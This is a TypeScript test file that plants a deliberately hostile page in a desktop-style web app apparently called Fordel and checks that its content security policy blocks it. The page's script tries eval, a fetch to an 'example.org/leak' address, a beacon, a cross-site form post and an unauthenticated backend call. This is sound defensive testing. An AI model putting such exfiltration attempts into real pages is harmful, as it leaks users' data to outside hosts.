import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { openWindow, type TestWindow } from './open-window.ts';
import { type Fordel, startFordel } from './start-fordel.ts';

/** A page that tries everything a page of Fordel must not be able to do. What the journeys look for must be found here. */
const hostile = {
  'index.html': `<!doctype html><title>Fiendtlig</title><link rel="icon" href="data:,">
<base href="https://example.org/"><style>body { color: red }</style><script>document.title = 'inline';</script>
<script type="module" src="http://127.0.0.1:1/other.js"></script><img src="https://example.org/a.png">
<iframe src="https://example.org/frame"></iframe><script type="module" src="./hostile.js"></script>`,
  'hostile.js': `
const tried = {};
try { new Function('tried.eval = true')(); } catch (error) { tried.eval = error.name; }
await fetch('https://example.org/leak').then(() => { tried.fetch = true; }, (error) => { tried.fetch = error.name; });
await fetch('rpc', { method: 'POST', body: '{"name":"app.info","input":{}}' }).then((answer) => { tried.rpc = answer.status; });
tried.beacon = navigator.sendBeacon('https://example.org/beacon', 'x');
const leave = () => {
  const form = document.createElement('form');
  form.action = 'https://example.org/form'; form.method = 'post'; document.body.append(form); form.submit();
  globalThis.tried = tried;
};
if (document.readyState === 'complete') leave(); else addEventListener('load', leave);`,
};

let data: string;
let folder: string;
let fordel: Fordel;
let window: TestWindow;
beforeAll(async () => {
  data = mkdtempSync(join(tmpdir(), 'fordel-fence-'));
  folder = mkdtempSync(join(tmpdir(), 'fordel-hostile-'));
  for (const [name, text] of Object.entries(hostile)) writeFileSync(join(folder, name), text);
  fordel = await startFordel(data, [join(import.meta.dirname, '../loopback/start-for-test.ts'), folder]);
  window = await openWindow(fordel);
  await window.page.waitForFunction(() => Reflect.has(globalThis, 'tried'));
});
afterAll(async () => {
  await window.close();
  await fordel.stop();
  rmSync(data, { recursive: true, force: true });
  rmSync(folder, { recursive: true, force: true });
});

describe('a page that tries to get out', () => {
  test('runs no inline script, is not styled by an inline style, and evaluates no text', async () => {
    expect(await window.page.evaluate(() => document.title)).toBe('Fiendtlig');
    expect(await window.page.evaluate(() => getComputedStyle(document.body).color)).toBe('rgb(0, 0, 0)');
    expect(await window.page.evaluate(() => Reflect.get(globalThis, 'tried') as object)).toMatchObject({
      eval: 'EvalError',
      fetch: 'TypeError',
    });
  });

  test('gets no answer from the backend without the token', async () => {
    expect(await window.page.evaluate(() => Reflect.get(globalThis, 'tried') as object)).toMatchObject({
      rpc: 403,
    });
  });

  test.each([
    'script-src-elem',
    'style-src-elem',
    'img-src',
    'frame-src',
    'connect-src',
    'form-action',
    'base-uri',
  ])('is seen breaking the policy (%s), so the journeys would see it too', (directive) => {
    expect(window.problems.join('\n')).toContain(`policy: ${directive} `);
    expect(() => window.expectClean()).toThrow();
  });

  test('stays on its address', () => {
    expect(window.page.url().startsWith(fordel.origin)).toBe(true);
  });
});
